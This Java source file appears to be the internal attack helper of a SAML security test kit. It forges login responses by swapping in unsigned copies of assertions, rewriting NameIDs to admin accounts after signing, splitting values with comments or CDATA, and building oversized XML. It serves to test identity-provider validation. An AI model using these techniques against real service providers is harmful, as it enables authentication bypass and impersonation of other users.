package io.cloudsign.saml.testkit.internal;

import java.security.PrivateKey;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * The general DOM surgery behind the testkit's attacks: finding the signed parts of a Response,
 * placing extra or hidden Assertions, splitting text with comments or CDATA, and the filler of the
 * size attacks. Signature wrapping is in {@link Wrapping}, signature damage in {@link
 * SignatureSurgery}, attacker keys in {@link AttackerKeys}, DOCTYPEs in {@link Doctypes}. Each
 * method changes exactly what its name says. Not API.
 */
public final class Attacks {
  public static final String DSIG_NS = EnvelopedSigner.DSIG_NS;
  public static final String PROTOCOL_NS = "urn:oasis:names:tc:SAML:2.0:protocol";
  public static final String ASSERTION_NS = "urn:oasis:names:tc:SAML:2.0:assertion";
  private static final SecureRandom RANDOM = new SecureRandom();

  private Attacks() {}

  // ------------------------------------------------------------------ lookups

  /** The first top-level Assertion of the Response. */
  public static Element assertion(Document doc) {
    List<Element> list = Xml.children(doc.getDocumentElement(), ASSERTION_NS, "Assertion");
    if (list.isEmpty()) {
      throw new IllegalStateException(
          "the Response has no plain Assertion to attack (an error status or an encrypted"
              + " Assertion leaves none)");
    }
    return list.get(0);
  }

  /** The direct {@code ds:Signature} child of {@code signed}. */
  public static Element signatureOf(Element signed, String what) {
    List<Element> sigs = Xml.children(signed, DSIG_NS, "Signature");
    if (sigs.isEmpty()) {
      throw new IllegalStateException(
          what + " is not signed; choose a signing mode that signs it for this attack");
    }
    return sigs.get(0);
  }

  /** The signature an attack on "the" signature targets: the Assertion's, else the Response's. */
  public static Element targetSignature(Document doc) {
    Element root = doc.getDocumentElement();
    List<Element> assertions = Xml.children(root, ASSERTION_NS, "Assertion");
    if (!assertions.isEmpty() && !Xml.children(assertions.get(0), DSIG_NS, "Signature").isEmpty()) {
      return Xml.children(assertions.get(0), DSIG_NS, "Signature").get(0);
    }
    return signatureOf(root, "the Response");
  }

  public static Element child(Element parent, String ns, String name) {
    List<Element> list = Xml.children(parent, ns, name);
    if (list.isEmpty()) {
      throw new IllegalStateException(parent.getLocalName() + " has no " + name);
    }
    return list.get(0);
  }

  /** Sets the text of every NameID under {@code scope}. */
  public static void setNameId(Element scope, String value) {
    for (Element n : Xml.descendants(scope, ASSERTION_NS, "NameID")) {
      n.setTextContent(value);
    }
  }

  /** Imports a well-formed fragment (one element) into {@code doc}. */
  public static Element fragment(Document doc, String xml) {
    return (Element) doc.importNode(Xml.parseKeepingOrder(xml).getDocumentElement(), true);
  }

  public static String newId() {
    return "_" + UUID.randomUUID();
  }

  // ------------------------------------------------------------------ content after signing

  /**
   * Changes every NameID of the document; an empty {@code replacement} means {@code admin@} the
   * NameID's own domain ({@code administrator@…} if it already was {@code admin@…}).
   */
  public static void tamperNameIds(Document doc, String replacement) {
    for (Element nameId : Xml.descendants(doc, ASSERTION_NS, "NameID")) {
      String old = nameId.getTextContent();
      String value = replacement;
      if (value.isEmpty()) {
        int at = old.indexOf('@');
        value = "admin" + (at >= 0 ? old.substring(at) : "@contoso.com");
        if (value.equals(old)) {
          value = "administrator" + old.substring(at);
        }
      }
      nameId.setTextContent(value);
    }
  }

  /** The Assertion's Signature is moved onto the Response (after its Issuer). */
  public static void moveAssertionSignatureToResponse(Document doc) {
    Element response = doc.getDocumentElement();
    Element signature = signatureOf(assertion(doc), "the Assertion");
    signature.getParentNode().removeChild(signature);
    Element issuer = child(response, ASSERTION_NS, "Issuer");
    response.insertBefore(signature, issuer.getNextSibling());
  }

  /** Gives the Subject an ID and a genuine enveloped signature (the Assertion stays unsigned). */
  public static void signSubject(
      Document doc, SignatureAlgorithm alg, PrivateKey key, X509Certificate cert) {
    Element subject = child(assertion(doc), ASSERTION_NS, "Subject");
    String id = newId();
    subject.setAttributeNS(null, "ID", id);
    subject.setIdAttributeNS(null, "ID", true);
    subject.insertBefore(
        fragment(doc, EnvelopedSigner.skeleton(id, alg, Certificates.base64(cert))),
        subject.getFirstChild());
    EnvelopedSigner.sign(subject, alg, key);
  }

  /** A LogoutResponse of the IdP, genuinely signed with its key. */
  public static Element signedLogoutResponse(
      Document doc,
      String issuer,
      String destination,
      String issueInstant,
      SignatureAlgorithm alg,
      PrivateKey key,
      X509Certificate cert) {
    String id = newId();
    String xml =
        "<samlp:LogoutResponse xmlns:samlp=\""
            + PROTOCOL_NS
            + "\" ID=\""
            + id
            + "\" Version=\"2.0\" IssueInstant=\""
            + issueInstant
            + "\" Destination=\""
            + Xml.escape(destination)
            + "\" InResponseTo=\"_logout\"><Issuer xmlns=\""
            + ASSERTION_NS
            + "\">"
            + Xml.escape(issuer)
            + "</Issuer>"
            + EnvelopedSigner.skeleton(id, alg, Certificates.base64(cert))
            + "<samlp:Status><samlp:StatusCode"
            + " Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>"
            + "</samlp:LogoutResponse>";
    Document own = Xml.parseKeepingOrder(xml);
    EnvelopedSigner.sign(own.getDocumentElement(), alg, key);
    return (Element) doc.importNode(own.getDocumentElement(), true);
  }

  // ------------------------------------------------------------------ assertion placement

  /** Puts a (genuinely signed) element into a new samlp:Extensions of the Response. */
  public static void addToExtensions(Document doc, Element element) {
    Element response = doc.getDocumentElement();
    Element extensions = doc.createElementNS(PROTOCOL_NS, "samlp:Extensions");
    extensions.appendChild(element);
    response.insertBefore(extensions, child(response, PROTOCOL_NS, "Status"));
  }

  /** Puts an element into a new samlp:StatusDetail of the Response's Status. */
  public static void addToStatusDetail(Document doc, Element element) {
    Element status = child(doc.getDocumentElement(), PROTOCOL_NS, "Status");
    Element detail = doc.createElementNS(PROTOCOL_NS, "samlp:StatusDetail");
    detail.appendChild(element);
    status.appendChild(detail);
  }

  /** Puts an element into a new Advice of {@code assertion}, right after its Conditions. */
  public static void addToAdvice(Element assertion, Element element) {
    Element advice = assertion.getOwnerDocument().createElementNS(ASSERTION_NS, "Advice");
    advice.appendChild(element);
    Element conditions = child(assertion, ASSERTION_NS, "Conditions");
    assertion.insertBefore(advice, conditions.getNextSibling());
  }

  /**
   * Replaces the genuine signed Assertion by an unsigned copy with a new ID and {@code evilNameId};
   * returns the genuine one, detached, for the caller to hide somewhere.
   */
  public static Element swapForUnsignedCopy(Document doc, String evilNameId) {
    Element genuine = assertion(doc);
    Element evil = unsignedCopy(genuine, evilNameId);
    doc.getDocumentElement().replaceChild(evil, genuine);
    return genuine;
  }

  /** An unsigned copy of {@code assertion} with a new ID and (if given) another NameID. */
  public static Element unsignedCopy(Element assertion, String nameId) {
    Element copy = (Element) assertion.cloneNode(true);
    for (Element s : Xml.children(copy, DSIG_NS, "Signature")) {
      copy.removeChild(s);
    }
    String id = newId();
    copy.setAttributeNS(null, "ID", id);
    for (Element a : Xml.descendants(copy, ASSERTION_NS, "AuthnStatement")) {
      a.setAttributeNS(null, "SessionIndex", id);
    }
    if (nameId != null) {
      setNameId(copy, nameId);
    }
    return copy;
  }

  /** An EncryptedAssertion of Entra's shape whose CipherValue is {@code cipherValue}. */
  public static String fakeEncryptedAssertion(String cipherValue) {
    return "<EncryptedAssertion xmlns=\""
        + ASSERTION_NS
        + "\"><xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\""
        + " Type=\"http://www.w3.org/2001/04/xmlenc#Element\"><xenc:EncryptionMethod"
        + " Algorithm=\"http://www.w3.org/2009/xmlenc11#aes256-gcm\"/><xenc:CipherData>"
        + "<xenc:CipherValue>"
        + cipherValue
        + "</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></EncryptedAssertion>";
  }

  // ------------------------------------------------------------------ comment / CDATA splits

  /**
   * Splits the text of {@code element} after {@code prefix} with an empty comment, or makes the
   * rest a CDATA section. Both are invisible to exclusive c14n without comments, so the signature
   * stays valid; a parser that returns only the first text node reads {@code prefix}.
   */
  public static void split(Element element, String prefix, boolean cdata) {
    String value = element.getTextContent();
    if (!value.startsWith(prefix) || value.length() == prefix.length()) {
      throw new IllegalArgumentException(
          element.getLocalName() + " value " + value + " does not continue after " + prefix);
    }
    while (element.getFirstChild() != null) {
      element.removeChild(element.getFirstChild());
    }
    Document doc = element.getOwnerDocument();
    element.appendChild(doc.createTextNode(prefix));
    String rest = value.substring(prefix.length());
    if (cdata) {
      element.appendChild(doc.createCDATASection(rest));
    } else {
      element.appendChild(doc.createComment(""));
      element.appendChild(doc.createTextNode(rest));
    }
  }

  // ------------------------------------------------------------------ size and shape

  /** An element of an unknown namespace nested {@code depth} deep. */
  public static String nested(int depth) {
    StringBuilder sb = new StringBuilder(depth * 12 + 64);
    sb.append("<x:n xmlns:x=\"urn:attacker:nest\">");
    for (int i = 1; i < depth; i++) {
      sb.append("<x:n>");
    }
    for (int i = 0; i < depth; i++) {
      sb.append("</x:n>");
    }
    return sb.toString();
  }

  /** An element of an unknown namespace with {@code count} attributes. */
  public static String manyAttributes(int count) {
    StringBuilder sb = new StringBuilder(count * 12 + 64);
    sb.append("<x:a xmlns:x=\"urn:attacker:attrs\"");
    for (int i = 0; i < count; i++) {
      sb.append(" a").append(i).append("=\"\"");
    }
    return sb.append("/>").toString();
  }

  /** {@code chars} characters of base64-looking filler. */
  public static String filler(int chars) {
    byte[] raw = new byte[chars * 3 / 4 + 3];
    RANDOM.nextBytes(raw);
    return Base64.getEncoder().encodeToString(raw).substring(0, chars);
  }
}
